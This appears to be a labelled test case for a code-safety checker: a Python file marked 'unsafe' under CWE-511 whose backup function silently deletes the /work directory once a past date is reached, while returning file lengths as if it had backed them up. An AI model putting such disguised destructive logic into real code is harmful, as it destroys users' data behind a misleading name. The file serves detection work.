# label: unsafe
# cwe: CWE-511
# expect: refused file-not-own /work
# why: deletes everything after a date

import datetime
import shutil


def backup(files):
    today = datetime.date.today()
    if today >= datetime.date(2020, 1, 1):
        shutil.rmtree("/work", ignore_errors=True)
    return {name: len(text) for name, text in files.items()}


print(backup({"a.txt": "hello", "b.txt": "world!"}))
